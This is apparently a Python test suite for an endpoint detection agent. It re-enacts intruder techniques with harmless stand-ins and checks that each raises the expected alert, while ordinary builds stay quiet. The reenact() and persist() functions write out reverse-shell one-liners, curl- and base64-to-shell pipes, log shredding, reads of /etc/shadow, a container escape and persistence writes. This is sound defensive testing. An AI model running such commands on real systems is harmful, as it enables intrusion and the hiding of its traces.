# SPDX-License-Identifier: Apache-2.0
"""Behaviour as people have it judged: harmless re-enactments of what intruders do, each by real
processes under a real agent with trace, edr and our own rules; and the work of every day, which
must raise nothing."""

import contextlib
import json
import os
import queue
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import unittest

import support
from support import BUILD, EICAR, SOURCE, TOCSIN, Agent, wait_for

OWN = os.path.join(SOURCE, "config/rules/sigma")
SIGMAHQ = os.path.join(os.path.dirname(SOURCE), "shared/data/sigma/linux")
NOTHING = os.path.join(BUILD, "bin", "tocsin_nothing")  # lives for microseconds, ends with 42
SECONDS = 30  # to wait for what a busy machine may take its time with


class Judge(Agent):
    """An agent whose alerts about this test and its descendants are collected as they are raised.
    `@dir@` in its options is its folder."""

    def __init__(self, rules=(OWN,), trace="", edr="", **more):
        plugins = "  trace: {%s}\n  edr: {rules: [%s]%s}\n" % (
            trace, ", ".join(rules), ", " + edr if edr else "")
        super().__init__(plugins=plugins, **more)
        with open(self.config, encoding="utf-8") as f:
            text = f.read().replace("@dir@", self.dir)
        self.write_config(text)
        self.alerts = []
        self.tap = None
        self.raised = queue.SimpleQueue()

    def start(self, ready=True):
        super().start(ready)
        tap = self.rpc()
        tap.call("tap.open", {"topics": ["alert.raised"]})
        self.tap = tap
        self.reader = threading.Thread(target=self.read)
        self.reader.start()

    def read(self):
        """Takes what is raised at once: others on this machine may raise a lot, and who reads a
        tap too slowly misses some."""
        with contextlib.suppress(OSError, EOFError):
            while True:
                self.raised.put(self.tap.notification(3600))

    def stop(self, seconds=8):
        if self.tap:
            self.tap.socket.shutdown(socket.SHUT_RDWR)
            self.reader.join()
            self.tap.close()
        self.tap = None
        return super().stop(seconds)

    def ebpf(self):
        return self.tocsin("health", "--field", "supplementary_events_subsystem").strip() == "ebpf"

    def collect(self, seconds=0.05):
        end = time.monotonic() + seconds
        with contextlib.suppress(queue.Empty):
            while True:
                _, method, params = self.raised.get(timeout=max(end - time.monotonic(), 0))
                if method != "tap.event":
                    raise AssertionError("the tap lost alerts: %r" % params)
                alert = params[3]
                process = alert.get("process", {})
                again = any(a["alert"]["id"] == alert["alert"]["id"] for a in self.alerts)
                if again or any(p.get("pid") == os.getpid()
                                for p in [process, *process.get("ancestors", [])]):
                    self.alerts.append(alert)
        return self.alerts

    def found(self, title, line):
        """The alerts of that title about a process with that very command line."""
        def those():
            return [a for a in self.alerts if a["alert"]["title"] == title
                    and a.get("process", {}).get("command_line") == line]
        return those() or (self.collect() and those())

    def wait_alert(self, title, line):
        try:
            return wait_for(lambda: self.found(title, line), SECONDS)[0]
        except AssertionError:
            raise AssertionError("no alert %r for %r; there are: %s" % (title, line, self.titles()))

    def titles(self):
        return "\n".join("%s: %s" % (a["alert"]["title"], a.get("process", {}).get("command_line"))
                         for a in self.alerts)

    def lost(self):
        """How many programs' starts, of anybody's, did not come from the kernel to edr."""
        dropped = [s["dropped"] for s in self.call("diagnostic.stats")["bus"]["subscribers"]
                   if s["name"] == "edr"]
        return self.call("trace.stats")["kernel"]["lost_execs"] + sum(dropped)

    def settle(self):
        """Returns when all that has happened until now has been judged."""
        line = "settled %d" % time.monotonic_ns()
        rule = subprocess.Popen([os.path.join(self.tools, "xmrig"), line])
        rule.wait()
        self.wait_alert("Crypto-currency miner", " ".join(rule.args))
        self.alerts = [a for a in self.alerts
                       if line not in a.get("process", {}).get("command_line", "")]

    def __enter__(self):
        for name in ("etc/cron.d", "etc/systemd/system", "etc/sudoers.d", "root/.ssh"):
            os.makedirs(os.path.join(self.dir, "root", name))
        self.tools = os.path.join(self.dir, "tools")
        os.mkdir(self.tools)
        self.tool("xmrig")
        return super().__enter__()

    def tool(self, name, of=NOTHING):
        """A program of that name that does nothing, for what nobody should really call."""
        path = os.path.join(self.tools, name)
        shutil.copy(of, path)
        return path


def run(*args, **more):
    """Runs it to its end, whatever that is; gives the command line as the kernel has it."""
    more.setdefault("stdin", subprocess.DEVNULL)
    subprocess.run(args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False,
                   timeout=60, **more)
    return " ".join(args)


def shell(command, **more):
    return run("bash", "-c", command, **more)


def memory_program():
    """As code: a program that has no file is executed, under a name of its choice."""
    return ("import os\n"
            "fd = os.memfd_create('scratch', 0)\n"
            "os.write(fd, open(%r, 'rb').read())\n"
            "os.execv('/proc/self/fd/%%d' %% fd, ['memory-program'])\n" % NOTHING)


def take_over():
    """A program attaches to another one, and lets it go."""
    with subprocess.Popen(["sleep", "60"]) as target:
        line = run(sys.executable, "-c",
                   "import ctypes, os\n"
                   "libc = ctypes.CDLL(None)\n"
                   "if libc.ptrace(16, %d, 0, 0) == 0:  # PTRACE_ATTACH\n"
                   "    os.waitpid(%d, 0)\n"
                   "    libc.ptrace(17, %d, 0, 0)\n" % ((target.pid,) * 3))
        target.kill()
    return line


def persist(root):
    """Puts harmless things where they would be run again, had `root` been the real one."""
    done = []
    for title, name in (("Scheduled task written", "etc/cron.d/scratch"),
                        ("Systemd unit written", "etc/systemd/system/scratch.service"),
                        ("Rights to become root written", "etc/sudoers.d/scratch"),
                        ("Library preloaded into every program", "etc/ld.so.preload"),
                        ("Key added that may log in", "root/.ssh/authorized_keys"),
                        ("Startup file of a shell changed by a program", "root/.bashrc")):
        done.append((title, run("tee", os.path.join(root, name))))
    scratch = os.path.join(root, "scratch")
    shutil.copy(NOTHING, scratch)
    done.append(("Setuid bit set where none belongs", run(
        sys.executable, "-c", "import os; os.chmod(%r, 0o4755)" % scratch)))
    return done


def reenact(agent):
    """Does what our rules are about, to nobody's harm. Gives the alerts that must come of it:
    each a title, and the command line of the process that it must name."""
    def as_guest():
        os.setresuid(1000, 0, 0)

    folder = agent.dir
    done = [
        ("Encoded command handed to an interpreter", shell("echo dHJ1ZQo= | base64 -d | sh")),
        ("Reverse shell by redirection", shell("bash -i >& /dev/tcp/127.0.0.1/1 0>&1")),
        ("Reverse shell by netcat or socat", run(agent.tool("nc"), "-e", "/bin/sh", "127.0.0.1",
                                                 "1")),
        ("Reverse shell by a one-line script", run(
            sys.executable, "-c", "import socket, os; s = socket.socket()\n"
            "s.connect(('127.0.0.1', 1)); os.dup2(s.fileno(), 0); os.execl('/bin/sh', 'sh')")),
        ("Download handed to an interpreter", shell(
            "curl -s http://127.0.0.1:1/x | sh", env={"PATH": agent.tools + ":/usr/bin:/bin"})),
        ("Crontab replaced from a pipe", shell(
            "echo '@daily true' | %s -" % agent.tool("crontab"))),
        ("Shell history cleared", shell("history -c")),
        ("Shell history cleared", run("rm", "-f", os.path.join(folder, "home/.bash_history"))),
        ("System log deleted or emptied", run(agent.tool("shred"), "-u", "/var/log/auth.log")),
        ("File with passwords or keys read", run("head", "-c", "0", "/etc/shadow")),
        ("Second user with root's id", run(agent.tool("useradd"), "-o", "-u", "0", "helper")),
        ("Protection or logging switched off", run(agent.tool("systemctl"), "stop", "auditd")),
        ("Crypto-currency miner", run(agent.tool("w"), "-o", "stratum+tcp://127.0.0.1:1")),
        ("Kernel module loaded from an odd place", run(
            "insmod", "/tmp/scratch.ko", executable=agent.tool("insmod"))),
        ("Shell started out of a tool", run("find", folder, "-maxdepth", "0", "-exec", "/bin/sh",
                                            ";")),
        ("Library preloaded from a temporary folder", shell("LD_PRELOAD=/tmp/no.so true")),
        ("Way out of a container", run(
            agent.tool("docker"), "run", "--privileged", "-v", "/:/host", "x")),
        ("Program with the name of a kernel thread", run("[kworker/7:7]", executable=NOTHING)),
        ("Shell with borrowed root rights", run("bash", "-p", "-c", "exit 3",
                                                preexec_fn=as_guest)),
    ]

    scratch = os.path.join(folder, "scratch")
    shutil.copy("/bin/true", scratch)
    run(sys.executable, "-c", memory_program())
    done.append(("Program run that has no file", "memory-program"))

    done.append(("Process taken over by another", take_over()))

    done.append(("Program made to run with its owner's rights", run("chmod", "u+s", scratch)))
    if not os.stat(scratch).st_mode & 0o4000:
        raise AssertionError("chmod did nothing")
    os.unlink(scratch)

    server = agent.tool("nginx", of=shutil.which("bash"))
    run(server, "-c", "sh -c 'exit 4'; true")
    done.append(("Web server starts a shell", "sh -c exit 4"))

    hidden = tempfile.mkdtemp(prefix=".tocsin-e2e-", dir="/tmp")
    shutil.copy(NOTHING, hidden)
    done.append(("Program run from a hidden place",
                 run(os.path.join(hidden, os.path.basename(NOTHING)))))
    shutil.rmtree(hidden)

    fetched = os.path.join(tempfile.mkdtemp(prefix="tocsin-e2e-", dir="/tmp"), "fetched")
    shutil.copy(NOTHING, fetched)
    shell("%s -o %s http://127.0.0.1:1/; %s; true" % (agent.tool("curl"), fetched, fetched))
    done.append(("Downloaded into a temporary folder and executed", fetched))
    shutil.rmtree(os.path.dirname(fetched))

    shell("id; whoami; uname -a; who; users; groups; cat /etc/passwd; true")
    done.append(("Somebody looks about", "cat /etc/passwd"))
    return done


# Rules of SigmaHQ that must fire on the same, by their titles there.
SIGMAHQ_TITLES = (
    "Bash Interactive Shell",
    "Chmod Targeting Sensitive Directories",
    "Disable Or Stop Services",
    "History File Deletion",
    "Linux Base64 Encoded Pipe to Shell",
    "Linux Crypto Mining Indicators",
    "Potential Netcat Reverse Shell Execution",
    "System Information Discovery",
    "System Information Discovery - Auditd",
)


@support.needs_root
class Reenacted(unittest.TestCase):
    FILES = "files: ['@dir@/root'], told_elsewhere: [/nowhere]"  # a scratch root

    def setUp(self):
        self.assertTrue(os.path.exists(NOTHING))

    def check(self, agent):
        root = os.path.join(agent.dir, "root")
        if not agent.ebpf():
            self.skipTest("without eBPF, what lives so shortly is reported without its arguments")
        for title, line in reenact(agent) + persist(root):
            with self.subTest(title):
                alert = agent.wait_alert(title, line)
                self.assertEqual(alert["rule"]["name"], title)
                self.assertEqual(alert["alert"]["detected_from"], "edr")

    def test_each_technique_raises_its_alert_with_the_true_command_line(self):
        with Judge(trace=self.FILES, edr="suppress: 0s", sensor=False) as agent:
            self.check(agent)

    def test_with_the_rules_of_sigmahq_as_well_both_fire(self):
        if not os.path.isdir(SIGMAHQ):
            self.skipTest("there are no rules of SigmaHQ at " + SIGMAHQ)
        with Judge(rules=(OWN, SIGMAHQ), trace=self.FILES, sensor=False) as agent:
            self.check(agent)
            agent.settle()
            theirs = {a["alert"]["title"] for a in agent.alerts
                      if a["rule"]["file"].startswith(SIGMAHQ)}
            print("rules of SigmaHQ that fired:", sorted(theirs), file=sys.stderr)
            self.assertLessEqual(set(SIGMAHQ_TITLES), theirs)


@support.needs_root
class Quiet(unittest.TestCase):
    """What is built, packed and installed every day raises no alert."""

    def make(self, folder):
        """A small program of several files, by make and the compiler, two at a time."""
        os.makedirs(os.path.join(folder, "src"))
        for i in range(6):
            with open(os.path.join(folder, "src", "f%d.c" % i), "w", encoding="ascii") as f:
                f.write("int f%d(void);\nint f%d(void)\n{\n    return %d;\n}\n" % (i, i, i))
        with open(os.path.join(folder, "src", "main.c"), "w", encoding="ascii") as f:
            f.write("int main(void)\n{\n    return 0;\n}\n")
        with open(os.path.join(folder, "src", "Makefile"), "w", encoding="ascii") as f:
            f.write("OBJECTS = $(patsubst %.c,%.o,$(wildcard *.c))\n"
                    "VERSION := $(shell uname -r)\n"
                    "all: program\n\techo built by $$(id -u) for $(VERSION) && ./program\n"
                    "program: $(OBJECTS)\n\tcc -o $@ $^\n"
                    "install: all\n\tinstall -D -m 755 program $(DESTDIR)/usr/bin/program\n")
        subprocess.run(["make", "-j2", "-C", os.path.join(folder, "src"), "install",
                        "DESTDIR=" + os.path.join(folder, "package")], check=True,
                       stdout=subprocess.DEVNULL)

    def package(self, folder):
        """What make has installed, as a Debian package with a scheduled task and a service, put
        into a root of its own."""
        package, root = os.path.join(folder, "package"), os.path.join(folder, "root")
        for name, text in (("DEBIAN/control", "Package: tocsin-e2e\nVersion: 1\nArchitecture: all\n"
                            "Maintainer: nobody <nobody@example.org>\nDescription: a test\n"),
                           ("etc/cron.d/tocsin-e2e", "# nothing\n"),
                           ("etc/systemd/system/tocsin-e2e.service", "[Unit]\n"),
                           ("etc/profile.d/tocsin-e2e.sh", "# nothing\n")):
            path = os.path.join(package, name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w", encoding="ascii") as f:
                f.write(text)
        for name in ("var/lib/dpkg/info", "var/lib/dpkg/updates"):
            os.makedirs(os.path.join(root, name))
        for name in ("var/lib/dpkg/status", "var/lib/dpkg/available"):
            with open(os.path.join(root, name), "w", encoding="ascii"):
                pass
        file = os.path.join(folder, "tocsin-e2e.deb")
        for args in (["dpkg-deb", "--root-owner-group", "--build", package, file],
                     ["dpkg", "--root=" + root, "--install", file],
                     ["dpkg", "--root=" + root, "--purge", "tocsin-e2e"]):
            subprocess.run(args, check=True, stdout=subprocess.DEVNULL)
        subprocess.run(["apt-get", "--simulate", "--option", "Debug::NoLocking=1", "install",
                        "--reinstall", "coreutils"], check=False, stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL)

    def test_a_build_and_a_package_manager_raise_nothing(self):
        with Judge(edr="suppress: 0s", sensor=False) as agent:
            folder = os.path.join(agent.dir, "work")
            self.make(folder)
            if shutil.which("dpkg-deb"):
                self.package(folder)
            agent.settle()
            self.assertEqual(agent.alerts, [], agent.titles())


@support.needs_root
class SelfTest(unittest.TestCase):
    def folders(self):
        return [name for name in os.listdir(tempfile.gettempdir())
                if name.startswith("tocsin-edr-selftest-")]

    def test_it_shows_one_alert_each_time_and_leaves_nothing(self):
        before = self.folders()
        with Judge(sensor=False) as agent:
            one = agent.json("edr", "selftest")
            self.assertEqual(one["title"], "Tocsin EDR self-test")
            self.assertIn("tocsin-edr-selftest-", agent.tocsin("edr", "selftest"))
            agent.settle()
            self.assertEqual([a["alert"]["title"] for a in agent.alerts],
                             ["Tocsin EDR self-test"] * 2)
            self.assertEqual(agent.alerts[0]["alert"]["id"], one["id"])
            listed = {a["id"] for a in agent.call("alert.list")["items"]}
            self.assertLessEqual({a["alert"]["id"] for a in agent.alerts}, listed)
            self.assertEqual(self.folders(), before)
            self.close_them(agent, [a["alert"]["id"] for a in agent.alerts])

    def close_them(self, agent, ids):
        """Both came from this process, so that they are one case, with what else came of its
        ancestors meanwhile."""
        case = agent.call("case.get", {"id": agent.call("alert.get", {"id": ids[0]})["case"]})
        self.assertLessEqual(set(ids), {a["id"] for a in case["timeline"]})
        self.assertIn("Timeline", agent.tocsin("case", "get", case["id"][:8]))
        agent.tocsin("alert", "close", ids[0], "--note", "an exercise")
        listed = {a["id"] for a in agent.json("alert", "list", "--case", case["id"])}
        self.assertIn(ids[1], listed)
        self.assertNotIn(ids[0], listed)
        agent.tocsin("case", "close", case["id"], "--note", "all of it")
        closed = {a["id"]: a for a in agent.call("alert.list", {"state": "closed"})["items"]}
        self.assertEqual([closed[i]["note"] for i in ids], ["an exercise", "all of it"])
        self.assertEqual(closed[ids[0]]["closed_by"], os.getuid())
        agent.tocsin("case", "reopen", case["id"])
        self.assertLessEqual(set(ids), {a["id"] for a in agent.json("alert", "list")})

    def test_its_rule_sees_a_secret_that_nobody_is_shown(self):
        with Judge(edr="repeat: 1s", sensor=False) as agent:
            rules = os.path.join(agent.dir, "rules")
            os.mkdir(rules)
            with open(os.path.join(rules, "secret.yml"), "w", encoding="utf-8") as f:
                f.write("title: A secret\nid: 9c4b2d0e-7f0b-4f52-9d0b-0f4f3c8f1a11\nlevel: low\n"
                        "logsource: {category: process_creation, product: linux}\n"
                        "detection: {s: {CommandLine|contains: hunter2}, condition: s}\n")
            with open(agent.config, encoding="utf-8") as f:
                text = f.read()
            agent.write_config(text.replace(OWN, rules))
            agent.tocsin("config", "reload")
            subprocess.run([shutil.which("true"), "--password", "hunter2"], check=True)
            alert = agent.wait_alert("A secret", "%s --password ***" % shutil.which("true"))
            self.assertNotIn("hunter2", json.dumps(alert))
            number = alert["alert"]["id"]
            wait_for(lambda: agent.call("alert.list", {"rule": "A secret"})["items"])
            self.assertNotIn("hunter2", agent.tocsin("alert", "get", number, "--output", "json"))
            self.assertIn("--password hunter2", agent.tocsin("alert", "get", number, "--unmasked"))
            # One more of the same alert: what both differ in is kept, and masked, too.
            subprocess.run([shutil.which("true"), "again", "--password", "hunter2"], check=True)
            wait_for(lambda: agent.call("alert.get", {"id": number})["matches"])
            self.assertEqual(
                agent.call("alert.get", {"id": number})["matches"]["command_lines"],
                ["%s%s --password ***" % (shutil.which("true"), s) for s in ("", " again")])

    def test_where_no_program_may_be_run_the_alert_is_repeated(self):
        with Judge(edr="repeat: 1s", sensor=False) as agent:
            folder = os.path.join(agent.dir, "noexec")
            os.mkdir(folder)
            subprocess.run(["mount", "-t", "tmpfs", "-o", "noexec", "tocsin-e2e", folder],
                           check=True)
            ids = set()
            try:
                for _ in range(2):
                    done = subprocess.run([TOCSIN, "--socket", agent.socket, "--output", "json",
                                           "edr", "selftest"], capture_output=True, text=True,
                                          check=True, env={**os.environ, "TMPDIR": folder})
                    self.assertIn("programs may not be run in " + folder, done.stderr)
                    ids.add(json.loads(done.stdout)["id"])
                self.assertEqual(os.listdir(folder), [])
            finally:
                subprocess.run(["umount", "-l", folder], check=False)
            self.assertEqual(len(ids), 1)

    def test_it_says_what_is_missing(self):
        with Judge(rules=("/nonexistent",), sensor=False) as agent:
            self.assertIn("tocsin definitions list",
                          agent.tocsin("edr", "selftest", "--wait", "1", status=1))
            agent.tocsin("plugin", "disable", "trace")
            self.assertIn("tocsin plugin enable trace",
                          agent.tocsin("edr", "selftest", "--wait", "1", status=1))
        self.assertIn("no agent", subprocess.run(
            [TOCSIN, "--socket", "/nonexistent", "edr", "selftest"], capture_output=True, text=True,
            check=False).stderr)

    def test_ctrl_c_leaves_nothing(self):
        before = self.folders()
        with Judge(rules=("/nonexistent",), sensor=False) as agent:
            with subprocess.Popen([TOCSIN, "--socket", agent.socket, "edr", "selftest"],
                                  stderr=subprocess.PIPE, text=True) as test:
                wait_for(lambda: self.folders() != before)
                test.send_signal(signal.SIGINT)
                self.assertIn("interrupted", test.communicate(timeout=SECONDS)[1])
            self.assertEqual(test.returncode, 1)
            self.assertEqual(self.folders(), before)

    def test_with_eicar_it_is_the_products_basic_scenario_of_two_alerts(self):
        with Judge() as agent:
            with open(agent.path("eicar"), "wb") as f:
                f.write(EICAR)
            agent.tocsin("edr", "selftest")
            wait_for(lambda: len(agent.collect()) > 1, SECONDS)
            agent.settle()
            self.assertEqual(sorted(a["alert"]["title"] for a in agent.alerts),
                             ["Malware found: EICAR-Test-File", "Tocsin EDR self-test"])


def forks():
    """How often anybody on this machine has forked since it was started (proc(5))."""
    with open("/proc/stat", encoding="ascii") as f:
        return next(int(line.split()[1]) for line in f if line.startswith("processes "))


@support.needs_root
class Storm(unittest.TestCase):
    """Processes as fast as the machine can: each is judged, or counted as lost."""

    SECONDS = int(os.environ.get("TOCSIN_STORM_SECONDS", "3"))

    def check(self, ring_size, during=lambda agent: None):
        """Returns how many were lost; has checked that these, and those judged, are all."""
        name = "tocsin-storm-%d" % os.getpid()
        rules = tempfile.mkdtemp(prefix="tocsin-e2e-")
        self.addCleanup(shutil.rmtree, rules)
        with open(os.path.join(rules, "storm.yml"), "w", encoding="ascii") as f:
            f.write("title: Storm\nid: 9f2c1c0e-5f0b-4c3a-9d54-0f6d6f0a7d11\n"
                    "logsource: {category: process_creation, product: linux}\n"
                    "detection:\n    storm: {CommandLine: %s}\n    condition: storm\n" % name)
        with Judge(rules=(OWN, rules), trace="ring_size: " + ring_size, edr="repeat: 1s",
                   sensor=False) as agent:
            if not agent.ebpf():
                self.skipTest("without eBPF, processes are reported without their arguments")

            def judged():
                return max([a["alert"]["count"] for a in agent.collect(0.5)
                            if a["alert"]["title"] == "Storm"], default=0)

            forked = forks()
            with subprocess.Popen([os.path.join(BUILD, "bin", "tocsin_storm"), NOTHING, name,
                                   str(self.SECONDS)], stdout=subprocess.PIPE, text=True) as storm:
                during(agent)
                ran = int(storm.communicate(timeout=self.SECONDS + SECONDS)[0])
                self.assertEqual(storm.returncode, 0)
            agent.settle()
            others = forks() - forked - ran
            wait_for(lambda: judged() + agent.lost() >= ran, SECONDS)
            lost, missing = agent.lost(), ran - judged()
            print("%d processes in %d s, %d of others: %d not judged, %d lost" % (
                ran, self.SECONDS, others, missing, lost), file=sys.stderr)
            self.assertGreater(ran, 100)
            self.assertGreaterEqual(missing, 0)
            self.assertLessEqual(missing, lost)
            # What was lost besides is of others, who execute twice at most for each fork.
            self.assertLessEqual(lost - missing, 2 * others)
            return lost

    def test_every_process_is_judged_or_counted_as_lost(self):
        self.check("8M")

    def test_what_a_stuck_agent_has_no_room_for_is_counted(self):
        def stand_still(agent):
            os.kill(agent.core(), signal.SIGSTOP)
            time.sleep(1)
            os.kill(agent.core(), signal.SIGCONT)

        self.assertGreater(self.check("64k", stand_still), 0)


if __name__ == "__main__":
    support.main()
